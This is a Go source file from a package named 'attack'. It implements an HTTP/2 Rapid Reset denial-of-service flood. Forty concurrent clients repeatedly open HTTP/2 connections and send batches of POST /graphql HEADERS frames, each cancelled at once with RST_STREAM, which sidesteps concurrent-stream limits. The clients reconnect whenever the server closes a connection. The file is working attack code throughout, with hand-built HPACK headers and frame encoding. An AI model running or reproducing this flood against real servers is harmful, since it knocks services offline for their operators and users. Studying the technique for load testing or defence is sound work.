package attack

import (
	"context"
	"encoding/binary"
	"io"
)

// resets begin requests of HTTP/2 and cancel each at once, so that no limit of the streams at a time holds them. A
// connection that the server ends is followed by another one.
func resets(ctx context.Context, p *party) {
	p.clients(ctx, 40, func(i int) {
		for ctx.Err() == nil {
			p.reset(ctx, i)
		}
	})
}

// reset cancels requests on one connection until the server ends it.
func (p *party) reset(ctx context.Context, client int) {
	conn, err := p.dial(ctx, client, overHTTP2)
	if err != nil {
		p.cut(ctx)
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	defer conn.Close()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
	_, err = io.WriteString(conn, prefaceAndSettings)
	for id := uint32(1); err == nil; {
		var frames []byte
		for range 20 {
			frames = append(frames, p.begun(id)...)
			frames = append(frames, frame(3, 0, id, []byte{0, 0, 0, 8})...) // RST_STREAM, CANCEL
			id += 2
		}
		if _, err = conn.Write(frames); err == nil {
			for range 20 {
				p.tally.take()
			}
		}
	}
	p.cut(ctx)
}

// begun is the header of a POST whose body is still to come.
func (p *party) begun(id uint32) []byte {
	const path, kind = "/graphql", "application/json"
	block := []byte{0x83, 0x87, 0x04, byte(len(path))} // POST, https, a path
	block = append(block, path...)
	block = append(append(block, 0x01, byte(len(p.host))), p.host...)   // :authority
	block = append(append(block, 0x0f, 0x10, byte(len(kind))), kind...) // content-type
	return frame(1, 0x4, id, block)                                     // HEADERS, END_HEADERS
}

// frame is one of HTTP/2 (RFC 9113, 4.1).
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	head := []byte{0, 0, 0, kind, flags, 0, 0, 0, 0}
	head[1], head[2] = byte(len(payload)>>8), byte(len(payload))
	binary.BigEndian.PutUint32(head[5:], stream)
	return append(head, payload...)
}
